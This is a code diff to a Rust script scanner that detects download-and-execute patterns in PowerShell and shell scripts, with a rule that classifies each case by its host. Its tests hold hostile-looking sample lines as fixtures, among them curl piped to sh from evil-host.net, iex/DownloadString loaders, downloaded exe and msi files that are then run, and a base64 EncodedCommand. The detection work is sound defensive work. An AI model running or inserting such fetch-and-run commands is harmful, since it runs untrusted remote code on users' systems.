@@ -10,6 +10,7 @@
 use super::engine::{Engine, Lang};
 use super::node_text;
 use super::value::Origin;
+use crate::scan::commands::address_in;
 
 const RUNS_TEXT: &[&str] = &["iex", "invoke-expression"];
 const DOWNLOADERS: &[&str] =
@@ -65,7 +66,8 @@ pub fn walk(eng: &mut Engine, code: &str, base: usize) {
                 {
                     let name = node_text(code, left).trim().to_ascii_lowercase();
                     let what = format!("downloads with {how}");
-                    downloaded.push((name, Origin { at: base + node.start_byte(), what }));
+                    let source = address_in(node_text(code, value));
+                    downloaded.push((name, Origin { source, at: base + node.start_byte(), what }));
                 }
             }
             "command" => {
@@ -73,7 +75,8 @@ pub fn walk(eng: &mut Engine, code: &str, base: usize) {
                     read_command(eng, base, &command, &downloaded);
                     if let Some(file) = written_by_downloader(&command) {
                         let what = format!("{} downloads to {file}", command.name);
-                        downloaded.push((file, Origin { at: base + node.start_byte(), what }));
+                        let source = address_in(node_text(code, node));
+                        downloaded.push((file, Origin { source, at: base + node.start_byte(), what }));
                     }
                 }
             }
@@ -82,7 +85,7 @@ pub fn walk(eng: &mut Engine, code: &str, base: usize) {
                 let call = node_text(code, node);
                 if let Some(file) = downloadfile_target(call) {
                     let what = format!("DownloadFile downloads to {file}");
-                    downloaded.push((file, Origin { at: base + node.start_byte(), what }));
+                    downloaded.push((file, Origin { source: address_in(call), at: base + node.start_byte(), what }));
                 }
             }
             _ => {}
@@ -235,11 +238,35 @@ mod tests {
         ids
     }
 
+    /// Scripts judge running a download by its address as shell lines do: a well-known installer
+    /// is a note, an address no host answers to a placeholder, any other host remote code.
+    #[test]
+    fn running_a_download_is_judged_by_its_address() {
+        let rule = |path: &str, code: &str| {
+            let found = ids(path, code);
+            found.into_iter().map(|(id, _)| id).find(|id| id.starts_with("remote-code")).unwrap_or_default()
+        };
+        let choco =
+            "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n";
+        assert_eq!(rule("install.ps1", choco), "remote-code-installer");
+        assert_eq!(
+            rule("setup.sh", "#!/bin/sh\ncurl -sSf https://sh.rustup.rs | sh -s -- -y\n"),
+            "remote-code-installer"
+        );
+        assert_eq!(
+            rule("setup.sh", "#!/bin/sh\ncurl -fsSL https://example.com/i.sh | sh\n"),
+            "remote-code-placeholder"
+        );
+        assert_eq!(rule("setup.sh", "#!/bin/sh\ncurl -fsSL https://evil-host.net/i.sh | sh\n"), "remote-code-run");
+        let evil = choco.replace("community.chocolatey.org", "evil-host.net");
+        assert_eq!(rule("install.ps1", &evil), "remote-code-run");
+    }
+
     #[test]
     fn a_download_kept_in_a_variable_and_run_is_remote_code() {
-        let ps = "$u = 'https://dl.example.net/a.ps1'\n$s = (New-Object Net.WebClient).DownloadString($u)\nWrite-Host 'ok'\nInvoke-Expression $s\n";
+        let ps = "$u = 'https://dl.evil-host.net/a.ps1'\n$s = (New-Object Net.WebClient).DownloadString($u)\nWrite-Host 'ok'\nInvoke-Expression $s\n";
         assert!(ids("setup.ps1", ps).contains(&("remote-code-run", "critical")), "{:?}", ids("setup.ps1", ps));
-        let saved = "$s = Invoke-WebRequest -Uri 'https://dl.example.net/notes.txt'\nWrite-Output $s.Content\n";
+        let saved = "$s = Invoke-WebRequest -Uri 'https://dl.evil-host.net/notes.txt'\nWrite-Output $s.Content\n";
         assert!(!ids("fetch.ps1", saved).iter().any(|(id, _)| *id == "remote-code-run"));
     }
 
@@ -249,22 +276,22 @@ mod tests {
     fn a_downloaded_file_started_is_remote_code() {
         let runs = |ps: &str| ids("setup.ps1", ps).iter().any(|(id, _)| *id == "remote-code-run");
         assert!(runs(
-            "Invoke-WebRequest -Uri 'https://dl.example.net/a.exe' -OutFile \"$env:TEMP\\a.exe\"\nStart-Process \"$env:TEMP\\a.exe\"\n"
+            "Invoke-WebRequest -Uri 'https://dl.evil-host.net/a.exe' -OutFile \"$env:TEMP\\a.exe\"\nStart-Process \"$env:TEMP\\a.exe\"\n"
         ));
         assert!(runs(
-            "$out = \"$env:TEMP\\a.exe\"\n(New-Object Net.WebClient).DownloadFile('https://dl.example.net/a.exe', $out)\n& $out\n"
+            "$out = \"$env:TEMP\\a.exe\"\n(New-Object Net.WebClient).DownloadFile('https://dl.evil-host.net/a.exe', $out)\n& $out\n"
         ));
-        assert!(runs("iwr https://dl.example.net/a.ps1 -OutFile a.ps1\n.\\a.ps1\n"));
-        assert!(runs("iwr https://dl.example.net/s.msi -OutFile s.msi\nmsiexec /i s.msi /qn\n"));
-        assert!(!runs("iwr https://dl.example.net/data.csv -OutFile data.csv\nImport-Csv data.csv\n"));
-        assert!(!runs("iwr https://dl.example.net/a.exe -OutFile a.exe\nStart-Process notepad.exe\n"));
+        assert!(runs("iwr https://dl.evil-host.net/a.ps1 -OutFile a.ps1\n.\\a.ps1\n"));
+        assert!(runs("iwr https://dl.evil-host.net/s.msi -OutFile s.msi\nmsiexec /i s.msi /qn\n"));
+        assert!(!runs("iwr https://dl.evil-host.net/data.csv -OutFile data.csv\nImport-Csv data.csv\n"));
+        assert!(!runs("iwr https://dl.evil-host.net/a.exe -OutFile a.exe\nStart-Process notepad.exe\n"));
     }
 
     #[test]
     fn encoded_commands_are_decoded_and_read() {
-        // "iex (iwr https://dl.example.net/x.ps1)" as UTF-16LE, base64.
+        // "iex (iwr https://dl.evil-host.net/x.ps1)" as UTF-16LE, base64.
         let payload: Vec<u8> =
-            "iex (iwr https://dl.example.net/x.ps1)".encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+            "iex (iwr https://dl.evil-host.net/x.ps1)".encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
         let b64 = base64_encode(&payload);
         let ps = format!("powershell.exe -NoProfile -EncodedCommand {b64}\n");
         let found = ids("run.ps1", &ps);
